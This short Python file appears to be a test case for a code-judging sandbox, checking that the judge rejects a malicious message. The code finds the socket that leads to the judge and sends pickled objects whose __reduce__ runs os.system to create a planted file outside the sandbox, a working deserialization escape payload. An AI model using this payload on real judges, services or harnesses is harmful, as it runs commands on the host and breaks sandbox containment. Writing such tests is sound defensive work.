# number = "A9"
# tries = "sends a pickle where the judge reads a frame"
# says = 'UnreadableValue'
inside_the_sandbox()

import os
import stat

def to_the_judge():
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return fd
        except OSError:
            pass

def say(data):
    while data:
        data = data[os.write(to_the_judge(), data):]

import pickle

class Payload:
    def __reduce__(self):
        return (os.system, (f"touch {OUTSIDE['files']['planted']}",))

def dot(x, y):
    say(pickle.dumps(Payload()) * 10)
